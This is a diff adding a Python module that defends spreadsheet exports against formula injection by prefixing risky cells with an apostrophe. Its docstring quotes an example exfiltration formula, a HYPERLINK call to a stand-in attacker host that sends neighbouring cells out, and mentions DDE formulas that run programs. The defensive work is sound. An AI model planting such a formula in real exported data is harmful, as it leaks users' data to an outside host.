@@ -1,0 +1,58 @@
+"""The one place where Lantern writes spreadsheet files (CSV now; XLSX writers go through `safe_cell` too).
+
+A spreadsheet program that opens a CSV or XLSX file runs a text cell beginning with `=`, `+`, `-` or `@` as a
+formula (`=HYPERLINK("//evil.example/"&A1,"1")` sends the neighbouring cells away when clicked; DDE formulas run
+programs). A tab or carriage return in front of it is skipped by some importers, and so is leading white space
+when "trim spaces" is on (LibreOffice), so they count as the same threat. Full-width equals, plus,
+minus and at (U+FF1D, U+FF0B, U+FF0D, U+FF20) are turned into their ASCII forms by spreadsheet input in CJK
+locales, and are neutralised too. Every text cell that could be read
+so gets a leading apostrophe (OWASP's advice: shown as text, the apostrophe is hidden in Excel and LibreOffice).
+
+Numbers stay numbers: an int, float or Decimal is written as it is, and a text that is only a plain decimal number
+(`-99`, `-3.5`) too, since a spreadsheet reads it as that number and nothing else."""
+
+from __future__ import annotations
+
+import csv
+import re
+from collections.abc import Iterable
+from decimal import Decimal
+from typing import IO, Any
+
+FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def safe_cell(value: Any) -> Any:
+    """The value as a spreadsheet may safely read it: numbers untouched, formula-looking text made inert."""
+    if value is None or isinstance(value, bool | int | float | Decimal):
+        return value
+    text = str(value)
+    first = text[:1]
+    first_seen = text.lstrip(" \t\r\n\u00a0\u3000")[:1]
+    if (first in FORMULA_TRIGGERS or first_seen in FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def safe_row(row: Iterable[Any]) -> list[Any]:
+    return [safe_cell(value) for value in row]
+
+
+class SafeWriter:
+    """`csv.writer` whose every cell goes through `safe_cell`."""
+
+    def __init__(self, out: IO[str] | Any, **options: Any) -> None:
+        self._writer = csv.writer(out, **options)
+
+    def writerow(self, row: Iterable[Any]) -> Any:
+        return self._writer.writerow(safe_row(row))
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        for row in rows:
+            self._writer.writerow(safe_row(row))
+
+
+def csv_writer(out: IO[str] | Any, **options: Any) -> SafeWriter:
+    """The only CSV writer of Lantern (a test checks that no other module calls `csv.writer`)."""
+    return SafeWriter(out, **options)
